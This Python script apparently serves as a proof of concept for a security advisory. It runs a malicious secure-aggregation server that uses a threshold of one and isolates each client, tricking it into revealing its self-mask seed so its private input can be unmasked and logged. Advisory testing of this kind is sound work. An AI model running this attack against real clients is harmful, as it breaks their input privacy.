"""A malicious server speaking the documented secagg.v1 schema: the advisory's break 1.

``python weak_params_server.py PORT OUTFILE N`` waits for N clients, announces a malicious-mode
round with n = N, k = N - 1 and t = 1, and then shows each client only itself: its own keys
(U1), no shares, U3 = {itself} with its own signature handed back, and asks it to unmask
itself. With t = 1 a single share of a secret is the secret, so a client that goes along
reveals its self-mask seed and the server strips the mask off its input. Everything the
server collects is written to OUTFILE as JSON (one record per client name) when all N
streams have ended; then it exits 0.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from collections.abc import AsyncIterator
from typing import Any

import grpc

from secagg.protocol.config import RoundConfig
from secagg.protocol.messages import (
    CommitmentsBroadcast,
    ConsistencyRequest,
    KeysBroadcast,
    PublicKeys,
    RoundComplete,
    SharesDelivery,
    UnmaskRequest,
)
from secagg.transport import secagg_pb2 as pb
from secagg.transport.codec import server_frame
from secagg.transport.hello import challenge_frame, new_challenge

DIM, BITS = 4, 16


class WeakServer:
    def __init__(self, n: int) -> None:
        self.n = n
        self.names: dict[int, str] = {}
        self.full = asyncio.Event()
        self.done = 0
        self.finished = asyncio.Event()
        self.records: dict[str, dict[str, Any]] = {}
        self.config = RoundConfig(
            num_clients=n,
            threshold=1,
            degree=n - 1,
            dim=DIM,
            bits=BITS,
            mode="malicious",
            round_id=os.urandom(16),
            graph_seed=bytes(32),  # malicious mode: the clients derive it by commit-reveal
            allow_unsafe=True,  # only so this fake server can encode it
        )

    async def participate(
        self, requests: AsyncIterator[bytes], context: grpc.aio.ServicerContext
    ) -> AsyncIterator[bytes]:
        yield challenge_frame(new_challenge())  # every secagg.v1 stream starts with one
        it = requests.__aiter__()
        hello = pb.ClientFrame.FromString(await it.__anext__()).hello
        index = len(self.names) + 1
        self.names[index] = hello.name
        record: dict[str, Any] = {
            "index": index,
            "session_id": self.config.session_id.hex(),
            "frames": [],
        }
        self.records[hello.name] = record
        if len(self.names) == self.n:
            self.full.set()
        await self.full.wait()
        sid = self.config.session_id
        yield pb.ServerFrame(
            welcome=pb.Welcome(
                index=index,
                config=self.config.encode(),
                round=1,
                phase_timeout=30.0,
                max_message_bytes=1 << 20,
                chunk_words=DIM,
                roster=self.names,
            )
        ).SerializeToString()
        words = 0
        try:
            async for data in it:
                frame = pb.ClientFrame.FromString(data)
                kind = frame.WhichOneof("body")
                record["frames"].append(kind)
                if kind == "abort":
                    record["abort"] = {"reason": frame.abort.reason, "detail": frame.abort.detail}
                    break
                if kind == "advertise_keys":
                    keys = frame.advertise_keys.keys
                    record["keys"] = True
                    mine = PublicKeys(
                        keys.enc_public, keys.mask_public, keys.signature, keys.commitment
                    )
                    # Each client is shown only its own commitment (t = 1 allows a list of one).
                    out = CommitmentsBroadcast(sid, {index: keys.commitment})
                elif kind == "reveal_nonce":
                    out = KeysBroadcast(sid, {index: mine}, {index: frame.reveal_nonce.nonce})
                elif kind == "encrypted_shares":
                    out = SharesDelivery(sid, {})
                elif kind == "masked_input":
                    chunk = frame.masked_input
                    record["word_bytes"] = chunk.word_bytes
                    record["masked"] = record.get("masked", "") + chunk.words.hex()
                    words += len(chunk.words) // chunk.word_bytes
                    if words < DIM:
                        continue
                    out = ConsistencyRequest(sid, (index,))
                elif kind == "consistency_signature":
                    sig = frame.consistency_signature.signature
                    out = UnmaskRequest(sid, (index,), {index: sig})
                elif kind == "unmask_response":
                    shares = frame.unmask_response.self_mask_shares
                    record["self_mask_shares"] = {str(k): v.hex() for k, v in shares.items()}
                    record["key_shares"] = len(frame.unmask_response.key_shares)
                    out = RoundComplete(sid, (index,))
                else:
                    continue
                yield server_frame(out).SerializeToString()
        finally:
            self.done += 1
            if self.done == self.n:
                self.finished.set()


async def main(port: int, out: str, n: int) -> None:
    fake = WeakServer(n)
    server = grpc.aio.server()
    handler = grpc.stream_stream_rpc_method_handler(fake.participate)
    server.add_generic_rpc_handlers(
        (grpc.method_handlers_generic_handler("secagg.v1.Aggregation", {"Participate": handler}),)
    )
    server.add_insecure_port(f"127.0.0.1:{port}")
    await server.start()
    await asyncio.wait_for(fake.finished.wait(), 120)
    with open(out, "w") as f:
        json.dump(fake.records, f)
    await server.stop(1.0)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3])))
